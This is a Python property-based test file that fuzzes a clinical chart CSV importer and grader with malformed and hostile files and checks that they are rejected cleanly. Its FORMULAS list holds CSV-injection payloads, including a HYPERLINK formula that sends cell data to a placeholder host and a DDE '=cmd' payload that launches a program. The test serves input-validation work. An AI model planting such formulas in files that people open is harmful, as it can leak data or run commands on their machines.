"""Generated hostile chart files through `import` and `grade` (hypothesis): bad years,
offsets, units, huge and non-Latin numbers, BOM, CRLF, 10 MB notes, duplicated or missing
columns, formula strings. Never a traceback; a bad file exits 2 naming exactly its bad
lines and leaves the store byte for byte as it was; a good one is imported.

In-process (the commands' main() with argv) for speed, and a few as real processes."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crs_desktop.cli import main
from crs_desktop.commands import grade as grade_command
from crs_desktop.commands import import_chart as import_command
from crs_desktop.store import ChartStore

ROOT = Path(__file__).resolve().parent.parent
HEADER = ["time", "item", "value", "unit", "note"]
NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC).timestamp()  # the fixed clock
EARLIEST_GOOD = datetime(2026, 11, 1, tzinfo=UTC).timestamp()
BAD_BYTE = "\ue000"  # stands for a byte that is not UTF-8 (0xE9 alone), put in at the end
OFFSETS_GOOD = ["Z", "+00:00", "+01:00", "-05:00", "+05:30", "+14:00", "-12:00", "+05:45"]
OFFSETS_BAD = ["+14:30", "-12:30", "+15:00", "-13:00", "+23:59", "-23:00"]
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=quoted",
    "=cmd|' /C calc'!A0",
]
# Digits of other scripts: Arabic-Indic, Extended Arabic-Indic, Devanagari, Bengali, fullwidth.
DIGIT_ZEROS = [0x660, 0x6F0, 0x966, 0x9E6, 0xFF10]

# (item, unit, lowest, highest, decimals): values well inside what is possible.
NUMBERS = [
    ("temperature", "", 35.0, 41.0, 1),
    ("temperature", "Cel", 35.0, 41.0, 1),
    ("temperature", "degF", 96.0, 105.0, 1),
    ("heart_rate", "", 40, 160, 0),
    ("spo2", "", 80, 100, 0),
    ("systolic_bp", "mm[Hg]", 70, 180, 0),
    ("crp", "mg/L", 1, 300, 1),
    ("crp", "mg/dL", 0.1, 30, 2),
    ("ferritin", "ug/L", 10, 5000, 0),
    ("hemoglobin", "g/L", 60, 160, 0),
    ("o2_flow", "L/min", 1, 15, 0),
    ("ice_score", "", 0, 10, 0),
    ("norepinephrine", "ug/min", 0, 20, 1),
]
WORDS = [
    ("o2_device", ["room_air", "nasal_cannula", "non_rebreather", "cpap"]),
    ("acvpu", ["A", "V", "P", "U", "C"]),
    ("seizure", ["none", "focal_resolved"]),
    ("consciousness", ["alert", "awakens_to_voice"]),
]
BAD_UNITS = [("temperature", "K"), ("heart_rate", "bpm"), ("crp", "mg"), ("spo2", "percent")]


@dataclass
class Line:
    fields: list[str]
    bad: bool


# -- pieces of a line ----------------------------------------------------------------------


def _zone(offset: str) -> timezone:
    if offset == "Z":
        return UTC
    sign = -1 if offset[0] == "-" else 1
    hours, minutes = int(offset[1:3]), int(offset[4:6])
    return timezone(sign * timedelta(hours=hours, minutes=minutes))


@st.composite
def good_time(draw) -> str:
    epoch = draw(st.integers(int(EARLIEST_GOOD), int(NOW) + 120))  # up to the tolerance
    offset = draw(st.sampled_from(OFFSETS_GOOD))
    text = datetime.fromtimestamp(epoch, _zone(offset)).strftime("%Y-%m-%dT%H:%M:%S")
    return text + offset


@st.composite
def bad_time(draw) -> str:
    kind = draw(st.sampled_from(["early", "late", "future", "offset", "unreadable", "digits"]))
    if kind == "early":
        year = draw(st.sampled_from([1, 2, 100, 1000, 1899]))
        offset = draw(st.sampled_from([*OFFSETS_GOOD, ""]))  # "" : local, even year 1
        return f"{year:04d}-01-01T00:00:00{offset}"
    if kind == "late":
        year = draw(st.sampled_from([2099, 2100, 3000, 9998, 9999]))
        return f"{year:04d}-12-31T23:59:00{draw(st.sampled_from([*OFFSETS_GOOD, '']))}"
    if kind == "future":
        epoch = NOW + draw(st.integers(121, 40 * 86400))
        offset = draw(st.sampled_from(OFFSETS_GOOD))
        return datetime.fromtimestamp(epoch, _zone(offset)).strftime("%Y-%m-%dT%H:%M:%S") + offset
    if kind == "offset":
        return f"2026-11-20T08:00:00{draw(st.sampled_from(OFFSETS_BAD))}"
    if kind == "unreadable":
        return draw(st.sampled_from(["", "yesterday", "2026-13-01T00:00:00Z", "20/11/2026 08:00"]))
    return to_other_digits(draw(good_time()), draw(st.sampled_from(DIGIT_ZEROS)))


def to_other_digits(text: str, zero: int) -> str:
    """Every ASCII digit written in another script (at least one is)."""
    return re.sub(r"[0-9]", lambda m: chr(zero + int(m.group())), text)


@st.composite
def good_value(draw) -> tuple[str, str, str]:
    kind = draw(st.sampled_from(["number", "word", "text"]))
    if kind == "number":
        item, unit, lo, hi, places = draw(st.sampled_from(NUMBERS))
        number = draw(st.floats(lo, hi, allow_nan=False))
        return item, f"{number:.{places}f}", unit
    if kind == "word":
        item, words = draw(st.sampled_from(WORDS))
        return item, draw(st.sampled_from(words)), ""
    # A product name: text a spreadsheet could run, and it is read back exactly.
    return "car_t_infusion", draw(st.sampled_from(["tisagenlecleucel", *FORMULAS[:4]])), ""


@st.composite
def good_note(draw) -> str:
    return draw(
        st.one_of(
            st.sampled_from(["", "other_cause", "pt says 'fine', \"ok\""]),
            st.sampled_from(FORMULAS),
            st.text(
                alphabet=st.characters(
                    codec="utf-8", exclude_characters=BAD_BYTE, exclude_categories=["Cs"]
                ),
                max_size=40,
            ),
        )
    )


# -- whole lines ---------------------------------------------------------------------------


@st.composite
def good_line(draw) -> Line:
    item, value, unit = draw(good_value())
    return Line([draw(good_time()), item, value, unit, draw(good_note())], bad=False)


@st.composite
def bad_line(draw) -> Line:
    time_text = draw(good_time())
    item, value, unit = draw(good_value())
    note = draw(good_note())
    kind = draw(
        st.sampled_from(
            [
                "time",
                "unit",
                "huge",
                "digits",
                "long_note",
                "formula_value",
                "formula_item",
                "not_utf8",
                "missing_field",
                "extra_field",
                "impossible",
            ]
        )
    )
    if kind == "time":
        time_text = draw(bad_time())
    elif kind == "unit":
        item, unit = draw(st.sampled_from(BAD_UNITS))
        value = "38"
    elif kind == "huge":
        item, unit, *_ = draw(st.sampled_from(NUMBERS))
        value = "9" * draw(st.sampled_from([21, 60, 4301, 5000]))
        value = draw(st.sampled_from([value, "0." + value, "-" + value]))
    elif kind == "digits":
        item, unit, lo, hi, _ = draw(st.sampled_from(NUMBERS))
        value = to_other_digits(f"{(lo + hi) / 2:g}", draw(st.sampled_from(DIGIT_ZEROS)))
    elif kind == "long_note":
        # Now and then 10 MB (a paste gone wrong); each costs a tenth of a second to read.
        sizes = [128 * 1024 + 1, 140_000, 200_000, 500_000, 1_000_000, 2_000_000] * 2
        size = draw(st.sampled_from([*sizes, 10 * 1024 * 1024]))
        note = draw(st.sampled_from(["x", "=", "é"])) * size
    elif kind == "formula_value":
        item, unit, *_ = draw(st.sampled_from(NUMBERS))
        value = draw(st.sampled_from(FORMULAS))
    elif kind == "formula_item":
        item = draw(st.sampled_from(FORMULAS))
    elif kind == "not_utf8":
        note = note[:10] + BAD_BYTE + note[10:]
    elif kind == "impossible":
        item, value, unit = draw(
            st.sampled_from(
                [("temperature", "50", ""), ("spo2", "120", ""), ("ice_score", "11", "")]
            )
        )
    fields = [time_text, item, value, unit, note]
    if kind == "missing_field":
        fields = fields[: draw(st.integers(1, 4))]
    elif kind == "extra_field":
        fields = fields + [note] * draw(st.integers(1, 2))
    return Line(fields, bad=True)


HEADERS_GOOD = [HEADER, [" Time", "ITEM", "value ", "Unit", "note"]]
HEADERS_BAD = [
    HEADER + ["note"],  # a column twice
    HEADER[:4],  # a column missing
    ["time", "item", "value", "note", "unit"],  # out of order
    ["time", "item", "item", "unit", "note"],
    ["when", "item", "value", "unit", "note"],
]


@st.composite
def chart_file(draw) -> tuple[bytes, set[int], bool]:
    """(the file's bytes, the line numbers that must be named, whether it has any row)."""
    header_bad = draw(st.integers(0, 9)) == 0
    header = draw(st.sampled_from(HEADERS_BAD if header_bad else HEADERS_GOOD))
    lines = draw(
        st.lists(st.one_of(good_line(), bad_line(), st.just(None)), min_size=0, max_size=12)
    )
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    records = [record(header, newline)]
    number = 2  # the line the next record starts on
    bad: set[int] = {1} if header_bad else set()
    any_row = False
    for line in lines:
        if line is None:
            records.append(newline)  # a blank line: skipped
        else:
            records.append(record(line.fields, newline))
            any_row = True
            if line.bad and not header_bad:
                bad.add(number)
        # Lines as the reader counts them: \r\n, \r and \n each end one.
        last = records[-1]
        number += last.count("\n") + last.count("\r") - last.count("\r\n")
    text = "".join(records)
    data = text.encode("utf-8").replace(BAD_BYTE.encode("utf-8"), b"\xe9")
    if draw(st.booleans()):
        data = b"\xef\xbb\xbf" + data  # a BOM
    return data, bad, any_row


def record(fields: list[str], newline: str) -> str:
    """One CSV record. Written with "\r\n" so that a field holding either is quoted (with
    "\n" the csv module leaves a lone "\r" unquoted: a line break to any reader)."""
    if not any(_SPECIAL.search(field) for field in fields):
        return ",".join(fields) + newline  # the same, quicker for a 10 MB field
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerow(fields)
    return text.getvalue()[:-2] + newline


_SPECIAL = re.compile('[,"\r\n]')


# -- running it ----------------------------------------------------------------------------


def run(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(argv)
    return status, out.getvalue(), err.getvalue()


def named_lines(err: str) -> set[int]:
    return {int(n) for n in re.findall(r"^  line (\d+):", err, re.MULTILINE)}


@pytest.fixture
def fixed_clock(monkeypatch):
    """Import and grade judge "in the future" by the fixed clock, not the wall clock."""
    monkeypatch.setattr(grade_command, "clock", lambda: NOW)
    real_open = import_command.open_store

    def open_store(args):
        store = real_open(args)
        store.clock = lambda: NOW
        return store

    monkeypatch.setattr(import_command, "open_store", open_store)


def test_generated_hostile_files(tmp_path, fixed_clock):
    base = tmp_path / "base.sqlite3"
    with ChartStore(base, clock=lambda: NOW) as store:
        store.create_patient("OLD", "Old, Pat", actor="setup")
    seen = {"refused": 0, "imported": 0, "empty": 0}

    @settings(
        max_examples=1000,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(chart_file())
    def check(case):
        data, bad, any_row = case
        chart = tmp_path / "chart.csv"
        chart.write_bytes(data)
        db = tmp_path / "work.sqlite3"
        shutil.copy(base, db)
        before = db.read_bytes()

        status, out, err = run(["import", str(chart), "--patient", "FUZZ", "--db", str(db)])
        assert "Traceback" not in err
        if bad:
            assert status == 2, err
            assert named_lines(err) == bad, err[:2000]
            assert "nothing was written" in err
            assert db.read_bytes() == before
            seen["refused"] += 1
        elif not any_row:
            assert status == 2 and "no values" in err
            assert db.read_bytes() == before
            seen["empty"] += 1
        else:
            assert status == 0, err[:2000]
            seen["imported"] += 1

        status, out, err = run(["grade", str(chart), "--json"])
        assert "Traceback" not in err
        if bad:
            assert status == 2 and out == ""
            assert named_lines(err) == bad, err[:2000]
        else:
            assert status == 0, err[:2000]

    check()
    # The generator really does make each kind of file.
    assert seen["refused"] > 500 and seen["imported"] > 50 and seen["empty"] > 5, seen


SUBPROCESS_CASES = [
    (b"time,item,value,unit,note\n0001-01-01T00:00:00+14:00,temperature,38,,\n", {2}),
    (
        "time,item,value,unit,note\r\n2026-11-20T08:00:00Z,temperature,٣٨.٥,,\r\n"
        "2026-11-20T08:00:00Z,temperature," + "1" * 5000 + ",degF,\r\n",
        {2, 3},
    ),
    (
        b"\xef\xbb\xbftime,item,value,unit,note\n2026-11-20T08:00:00Z,heart_rate,80,,caf\xe9\n"
        b'2026-11-20T08:00:00Z,heart_rate,80,,"' + b"x" * 10_000_000 + b'"\n',
        {2, 3},
    ),
    (
        b"time,item,value,unit,note\r\n8999-01-01T00:00:00Z,heart_rate,80,,=HYPERLINK(1)\r\n"
        b"2026-11-20T08:00:00+15:00,heart_rate,80,,\r\n",
        {2, 3},
    ),
]


@pytest.mark.parametrize(
    ("data", "bad"), SUBPROCESS_CASES, ids=["year1", "digits", "bytes", "future-offset"]
)
def test_as_real_processes(tmp_path, data, bad):
    chart = tmp_path / "chart.csv"
    chart.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    db = tmp_path / "s.sqlite3"
    with ChartStore(db) as store:
        store.create_patient("OLD", "Old, Pat", actor="setup")
    before = db.read_bytes()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for args in (
        ["import", str(chart), "--patient", "NEW", "--db", str(db)],
        ["grade", str(chart)],
    ):
        result = subprocess.run(
            [sys.executable, "-m", "crs_desktop", *args],
            capture_output=True,
            text=True,
            encoding="utf-8",
            env=env,
            timeout=120,
        )
        assert result.returncode == 2 and "Traceback" not in result.stderr
        assert named_lines(result.stderr) == bad
        assert result.stdout == ""
    assert db.read_bytes() == before
